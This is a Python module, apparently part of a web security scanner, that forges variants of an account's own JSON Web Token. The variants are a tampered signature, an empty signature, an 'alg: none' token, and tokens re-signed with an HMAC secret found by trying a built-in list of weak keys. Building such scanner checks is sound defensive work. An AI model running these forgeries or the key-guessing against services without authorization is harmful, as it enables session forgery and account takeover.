"""Tokens taken apart and put together as an attacker without the key can: the account's own, never another's.

Nothing here verifies. Shapes from RFC 8725 (JSON Web Token Best Current Practices), sections 2.1 and 2.2.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass

from ringwall.attacks.forge import unsigned
from ringwall.scan.model import Account

_WEAK = """secret s3cr3t password changeme key jwt jwtsecret jwt_secret secretkey secret_key secret-key random mysecret
mysecretkey supersecret super-secret supersecretkey my_secret_key your-256-bit-secret your_secret_key your-secret-key
test dev development admin 123456 default private qwerty letmein token app api flask django express node"""
WEAK = ("", *_WEAK.split())
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True, slots=True)
class Forged:
    """A token that nobody issued: what is wrong with it."""

    what: str
    token: str


def carried(account: Account) -> tuple[str, str, str] | None:
    """The header that carries the account's token, what stands before the token in it, and the token: after `Bearer`
    (RFC 6750), or a JWT wherever it stands."""
    for name, value in account.headers:
        before, _, token = value.rpartition(" ")
        if name.lower() == "authorization" and before.lower() == "bearer":
            return name, f"{before} ", token
        if _part(value.rpartition(" ")[2].rpartition("=")[2].partition(".")[0]) is not None and value.count(".") == 2:
            at = max(value.rfind(" "), value.rfind("=")) + 1
            return name, value[:at], value[at:]
    return None


def bearer(account: Account) -> str | None:
    """The account's token."""
    found = carried(account)
    return found[2] if found else None


def claims(token: str) -> dict[str, object]:
    """The claims of a JWT, unverified; empty where it is none."""
    parts = token.split(".")
    read = _part(parts[1]) if len(parts) == 3 else None
    return read if isinstance(read, dict) else {}


def forged(token: str) -> Iterator[Forged]:
    head, _, rest = token.partition(".")
    middle, _, signature = rest.partition(".")
    stated, said = _part(head), claims(token)
    if not isinstance(stated, dict) or not said or not signature:
        return
    at = len(signature) // 2
    turned = signature[:at] + ("A" if signature[at] != "A" else "B") + signature[at + 1 :]
    yield Forged("a changed signature", f"{head}.{middle}.{turned}")
    yield Forged("no signature", f"{head}.{middle}.")
    yield Forged("`alg: none`", unsigned(token, str(said.get("sub", ""))))
    key = weak_key(token)
    if key is not None:
        again = {**said, "iat": int(time.time()) - 1}
        yield Forged(f"a signature of one's own by the guessed key {key!r}", _signed(stated, again, key))
        yield Forged("an expiry long past", _signed(stated, {**said, "exp": 1_000_000_000}, key))


def weak_key(token: str) -> str | None:
    """The listed key that made an HMAC signature, found without asking the target."""
    text, _, signature = token.rpartition(".")
    stated = _part(token.partition(".")[0])
    digest = _HASHES.get(str(stated.get("alg"))) if isinstance(stated, dict) else None
    if digest is None:
        return None
    return next((k for k in WEAK if _coded(hmac.digest(k.encode(), text.encode(), digest)) == signature), None)


def _signed(head: dict[str, object], said: dict[str, object], key: str) -> str:
    text = ".".join(_coded(json.dumps(part, separators=(",", ":")).encode()) for part in (head, said))
    return f"{text}.{_coded(hmac.digest(key.encode(), text.encode(), _HASHES[str(head['alg'])]))}"


def _part(text: str) -> object:
    try:
        read: object = json.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))
    except ValueError:
        return None
    return read


def _coded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
